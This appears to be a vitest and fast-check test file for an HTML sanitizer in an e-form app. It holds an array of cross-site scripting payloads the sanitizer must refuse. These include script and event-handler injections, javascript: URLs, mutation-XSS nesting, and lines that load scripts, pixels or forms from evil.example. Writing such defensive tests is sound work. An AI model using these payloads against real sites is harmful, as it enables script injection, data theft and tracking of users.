import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseHtml, toHtml } from '#eform/html.ts'
import { forbiddenHtml } from './forbidden-html.ts'

const attacks = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<img src="javascript:alert(1)">', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,x"></object>', '<embed src="x">',
  '<a href="javascript:alert(1)">x</a>', '<a href=" jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="data:text/html;base64,PHN2Zz4=">x</a>', '<a href="vbscript:x">x</a>', '<a href="//evil.example">x</a>',
  '<p onclick="alert(1)">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<b onmouseover=alert(1)//>', '<style>@import "//evil.example"</style>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">', '<form action="//evil.example"><input name=x></form>', '<button formaction="javascript:alert(1)">x</button>', '<template><img src=x onerror=alert(1)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">', '<video><source onerror="alert(1)"></video>', '<details open ontoggle=alert(1)>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<x onfocus=alert(1) autofocus tabindex=1>', '<a href="https://a.example" target="_blank">x</a>',
]

describe('HTML that people send', () => {
  it.each(attacks)('is refused: %s', (html) => {
    expect(forbiddenHtml(html)).not.toEqual([])
  })

  it.each(['', 'Is 3 < 5 & 5 > 3?', '<h2>Title</h2><p>Read <b>this</b><br>&amp; <a href="https://a.example/?x=1&amp;y=2">that</a></p>', '<ul><li>one</li></ul><img src="/files/ab/school.webp" alt="Our school">', '<a href="mailto:a@b.example">write</a> <a href="/help">help</a>'])('is fine: %s', (html) => {
    expect(forbiddenHtml(html)).toEqual([])
  })

  it('is always clean once the tree of allowed elements spelled it, whatever it was', () => {
    const pieces = fc.oneof(fc.constantFrom(...attacks), fc.string({ unit: 'binary', maxLength: 8 }), fc.constantFrom('<p>', '</p>', '<a href="/x">', '"', "'", '>', '<'))
    fc.assert(fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
      expect(forbiddenHtml(toHtml(parseHtml(parts.join(''))))).toEqual([])
    }), { numRuns: 3000 })
  })
})
